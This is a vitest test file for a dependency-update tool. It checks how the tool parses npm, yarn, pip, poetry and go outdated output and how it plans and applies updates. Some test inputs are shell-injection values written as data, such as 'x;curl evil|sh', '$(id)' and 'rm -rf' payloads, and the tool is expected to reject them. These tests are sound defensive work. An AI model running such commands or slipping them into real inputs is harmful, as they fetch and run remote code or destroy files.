import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { goManager, parseGoListUpdates } from '../../src/janitor/ecosystems/go.js';
import { isNpmName, isPythonName } from '../../src/janitor/ecosystems/names.js';
import { npmDependencyOrder, npmManager, parseNpmOutdated, parseYarnOutdated } from '../../src/janitor/ecosystems/npm.js';
import {
  declaredPythonNames,
  parsePipOutdated,
  parsePipResolution,
  parsePoetryOutdated,
  pinnedRequirements,
  pipManager,
} from '../../src/janitor/ecosystems/python.js';
import { firstFailingTest } from '../../src/janitor/failing-test.js';
import { changelogLink, planUpdates } from '../../src/janitor/plan.js';
import { majorCandidate } from '../../src/janitor/suggestions.js';
import { updateKind } from '../../src/janitor/versions.js';

// npm-outdated.json was printed by npm 11 (`npm outdated --json --long`) against the registry emulator, with the
// paths rewritten and two entries added (a homepage, a package that is not installed). pip's and go's outputs are
// in the formats pip 23 and go 1.22 print; neither tool can reach its index from this machine.
const fixture = (name: string) => readFileSync(join(import.meta.dirname, '..', 'fixtures', 'janitor', name), 'utf8');

describe('outdated reports, read from each tool’s own output', () => {
  it('npm: current, wanted and latest per direct dependency; a package that is not installed is left out', () => {
    const found = parseNpmOutdated(`npm warn config something\n${fixture('npm-outdated.json')}`);
    expect(found.map((pkg) => pkg.name)).toEqual(['@acme/money', 'pinned', 'tint']);
    expect(found.find((pkg) => pkg.name === 'tint')).toMatchObject({
      current: '1.0.0',
      wanted: '1.0.4',
      latest: '1.1.0',
      dependencyType: 'dependencies',
      homepage: 'https://github.com/acme/tint#readme',
    });
  });

  it('yarn 1: the table line of `yarn outdated --json`', () => {
    expect(parseYarnOutdated(fixture('yarn-outdated.jsonl'))).toEqual([
      { name: 'chalk', current: '4.1.0', wanted: '4.1.2', latest: '5.3.0', dependencyType: 'dependencies', homepage: 'https://github.com/chalk/chalk#readme' },
      { name: 'jest', current: '29.6.0', wanted: '29.7.0', latest: '29.7.0', dependencyType: 'devDependencies', homepage: 'https://jestjs.io/' },
    ]);
  });

  it('pip: only the packages the repository declares, not pip itself or transitive ones', () => {
    const declared = declaredPythonNames(['# app\nrequests>=2.31\ndjango[argon2]==4.2.7 ; python_version >= "3.10"\n-r dev.txt\n']);
    expect([...declared].sort()).toEqual(['django', 'requests']);
    expect(parsePipOutdated(fixture('pip-outdated.json'), declared).map((pkg) => `${pkg.name} ${pkg.current}→${pkg.latest}`)).toEqual([
      'requests 2.31.0→2.32.3',
      'Django 4.2.7→5.1.4',
    ]);
  });

  it('poetry: `poetry show --outdated --no-ansi` lines, the (!) of a package not installed read past, only declared names', () => {
    // As Poetry 1.3 prints it (the test with the real poetry runs it against the simple index emulator).
    const output = [
      'acme-greeting     1.0.0 1.1.0 Greets',
      'acme-tally    (!) 1.0.0 1.2.0 Sums a basket of cents',
      'idna              3.4   3.7   Internationalized Domain Names',
      'Warning: poetry.lock is not consistent with pyproject.toml.',
      'a$(id)            1.0   1.1',
    ].join('\n');
    expect(parsePoetryOutdated(output, new Set(['acme-greeting', 'acme-tally'])).map((pkg) => `${pkg.name} ${pkg.current}→${pkg.latest}`)).toEqual([
      'acme-greeting 1.0.0→1.1.0',
      'acme-tally 1.0.0→1.2.0',
    ]);
  });

  it('go: direct requirements with an Update; the main module, indirect and current ones are left out', () => {
    expect(parseGoListUpdates(fixture('go-list-updates.jsonl'))).toEqual([
      {
        name: 'github.com/google/uuid',
        current: 'v1.5.0',
        wanted: 'v1.6.0',
        latest: 'v1.6.0',
        homepage: 'https://pkg.go.dev/github.com/google/uuid?tab=versions',
      },
    ]);
    expect(goManager().updateCommand({ name: 'github.com/google/uuid', current: 'v1.5.0', wanted: 'v1.6.0', latest: 'v1.6.0' }, 'v1.6.0', 'minor')).toBe(
      "go get 'github.com/google/uuid@v1.6.0' && go mod tidy",
    );
  });

  it('names that could break out of a shell command are dropped; ordinary ones pass (control)', () => {
    const hostile = JSON.stringify({
      'x;curl evil|sh': { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1' },
      ok: { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1 && rm -rf ~' },
      fine: { current: '1.0.0', wanted: '1.0.1', latest: '1.0.1' },
    });
    expect(parseNpmOutdated(hostile).map((pkg) => pkg.name)).toEqual(['fine']);
    expect(isNpmName('@scope/pkg.js')).toBe(true);
    expect(isNpmName('$(id)')).toBe(false);
    expect(isPythonName("requests'; rm -rf /; '")).toBe(false);
    expect(parsePipOutdated('[{"name":"a$(id)","version":"1.0","latest_version":"1.1"}]')).toEqual([]);
  });
});

describe('the plan', () => {
  const outdated = parseNpmOutdated(fixture('npm-outdated.json'));

  it('default: patch and minor within the range; the major becomes a suggestion; a pin outside its range is named', () => {
    const plan = planUpdates(npmManager('package-lock.json'), outdated, { majors: false });
    expect(plan.updates.map((update) => `${update.name} ${update.from}→${update.to} ${update.kind}`)).toEqual([
      '@acme/money 1.0.0→1.2.0 minor',
      'tint 1.0.0→1.0.4 patch',
    ]);
    expect(plan.updates[1]?.command).toBe('npm update --package-lock-only --ignore-scripts --no-audit --no-fund tint');
    expect(plan.majors).toEqual([
      { ecosystem: 'npm', name: '@acme/money', from: '1.0.0', to: '2.0.0', changelog: 'https://www.npmjs.com/package/@acme/money?activeTab=versions' },
    ]);
    expect(plan.skipped).toEqual([{ name: 'pinned', from: '3.0.0', to: '3.1.0', reason: 'outside the declared range' }]);
  });

  it('janitor-majors: the major is tried instead, rewriting the range', () => {
    const plan = planUpdates(npmManager('package-lock.json'), outdated, { majors: true });
    expect(plan.majors).toEqual([]);
    expect(plan.updates.find((update) => update.name === '@acme/money')).toMatchObject({
      to: '2.0.0',
      kind: 'major',
      command: 'npm install --package-lock-only --ignore-scripts --no-audit --no-fund @acme/money@^2.0.0',
    });
  });

  it('dependency order: a package another outdated one depends on goes first, whatever the alphabet says', () => {
    const lock = JSON.stringify({
      lockfileVersion: 3,
      packages: {
        '': {},
        'node_modules/colorize': { version: '1.0.0', dependencies: { tint: '^1.0.0' } },
        'node_modules/tint': { version: '1.0.0' },
        'node_modules/money': { version: '1.0.0' },
      },
    });
    expect(npmDependencyOrder(['colorize', 'money', 'tint'], lock)).toEqual(['tint', 'colorize', 'money']);
    expect(npmDependencyOrder(['colorize', 'money', 'tint'], 'not json')).toEqual(['colorize', 'money', 'tint']);
  });

  it('steps: below 1.0 a minor counts as major, as npm’s caret treats it; Go versions with their v', () => {
    expect(updateKind('1.2.3', '1.2.4')).toBe('patch');
    expect(updateKind('1.2.3', '1.3.0')).toBe('minor');
    expect(updateKind('1.2.3', '2.0.0')).toBe('major');
    expect(updateKind('0.3.0', '0.4.0')).toBe('major');
    expect(updateKind('v1.5.0', 'v1.6.0')).toBe('minor');
    expect(updateKind('2.0.0', '1.9.0')).toBeNull();
  });

  it('changelog links: the GitHub releases when the project lives there, else the registry’s version list', () => {
    expect(changelogLink('npm', { name: 'tint', homepage: 'git+https://github.com/acme/tint.git' })).toBe('https://github.com/acme/tint/releases');
    expect(changelogLink('python', { name: 'requests' })).toBe('https://pypi.org/project/requests/#history');
    expect(changelogLink('npm', { name: 'x', homepage: 'https://github.com.evil.example/a/b' })).toBe('https://www.npmjs.com/package/x?activeTab=versions');
  });

  it('a major suggestion has one fingerprint per package and target major', () => {
    const candidate = majorCandidate({ ecosystem: 'npm', name: 'money', from: '1.0.0', to: '2.1.0', changelog: 'https://github.com/acme/money/releases' });
    expect(candidate).toMatchObject({
      analyst: 'janitor',
      fingerprint: 'janitor:npm:money:major-2',
      title: '[Dependency] money 1.0.0 → 2.1.0 (major version)',
    });
    expect(candidate.body).toContain('https://github.com/acme/money/releases');
  });
});

describe('pinned requirements: what pip resolves as newest against the pins', () => {
  it('reads the pins and keeps only the packages the resolver found newer; names that could break a command are dropped', () => {
    const pins = pinnedRequirements('--index-url https://mirror.example/simple\nDjango==4.2.7\nrequests[socks] == 2.31.0  # http\nflask>=2\nbad$(id)==1.0\n');
    expect([...pins.values()]).toEqual([
      { name: 'Django', version: '4.2.7' },
      { name: 'requests', version: '2.31.0' },
    ]);
    const report = JSON.stringify({
      version: '1',
      install: [
        { metadata: { name: 'requests', version: '2.32.3' } },
        { metadata: { name: 'django', version: '4.2.7' } },
        { metadata: { name: 'other', version: '9.0' } },
      ],
    });
    expect(parsePipResolution(`WARNING: something\n${report}`, pins)).toEqual([
      { name: 'requests', current: '2.31.0', wanted: '2.32.3', latest: '2.32.3', homepage: 'https://pypi.org/project/requests/' },
    ]);
    expect(pipManager(new Set(), 'requirements.txt', pins).listCommand).toBe(
      "python3 -m pip install --dry-run --ignore-installed --no-deps --quiet --disable-pip-version-check --report - 'Django' 'requests' 2>/dev/null",
    );
  });
});

describe('pinned requirements: the pin is rewritten for one package only', () => {
  it('runs the update command with the real sed', () => {
    const dir = mkdtempSync(join(tmpdir(), 'janitor-pip-'));
    try {
      const before = 'Django==4.2.7\nrequests==2.31.0  # http\nrequests-toolbelt==2.31.0\nflask[async] == 2.31.0\n';
      writeFileSync(join(dir, 'requirements.txt'), before);
      const manager = pipManager(new Set(['requests']), 'requirements.txt');
      execFileSync('sh', ['-c', manager.updateCommand({ name: 'requests', current: '2.31.0', wanted: '2.32.3', latest: '2.32.3' }, '2.32.3', 'minor')], {
        cwd: dir,
      });
      expect(readFileSync(join(dir, 'requirements.txt'), 'utf8')).toBe(
        'Django==4.2.7\nrequests==2.32.3  # http\nrequests-toolbelt==2.31.0\nflask[async] == 2.31.0\n',
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the first failing test a run names', () => {
  it.each([
    ['node:test TAP', 'TAP version 13\n# Subtest: cart\n    # Subtest: adds tax\n    not ok 1 - adds tax\n      ---\nnot ok 1 - cart\n', 'adds tax'],
    ['node:test spec', '▶ cart\n  ✔ sums (0.5ms)\n  ✖ adds tax (1.2ms)\n', 'adds tax'],
    ['vitest', ' FAIL  test/cart.test.ts > cart > adds tax\nAssertionError: expected 1 to be 2\n', 'test/cart.test.ts > cart > adds tax'],
    ['jest', '  ● cart › adds tax\n\n    expect(received).toBe(expected)\n', 'cart › adds tax'],
    ['pytest', '=== short test summary info ===\nFAILED tests/test_cart.py::test_adds_tax - assert 1 == 2\n', 'tests/test_cart.py::test_adds_tax'],
    ['go test', '=== RUN   TestAddsTax\n--- FAIL: TestAddsTax (0.00s)\n    cart_test.go:12: got 1\n', 'TestAddsTax'],
    [
      'unittest 3.11',
      'test_sums (test_cart.CartTest) ... ok\n\n======\nFAIL: test_adds_tax (test_cart.CartTest)\n------\n',
      'test_cart.CartTest.test_adds_tax',
    ],
    ['unittest 3.12', 'ERROR: test_adds_tax (test_cart.CartTest.test_adds_tax)\n------\n', 'test_cart.CartTest.test_adds_tax'],
  ])('%s', (_runner, output, name) => {
    expect(firstFailingTest(output)).toBe(name);
  });

  it('a passing run names none', () => {
    expect(firstFailingTest('TAP version 13\nok 1 - cart\n1..1\n# pass 1\n# fail 0\n')).toBeUndefined();
  });
});
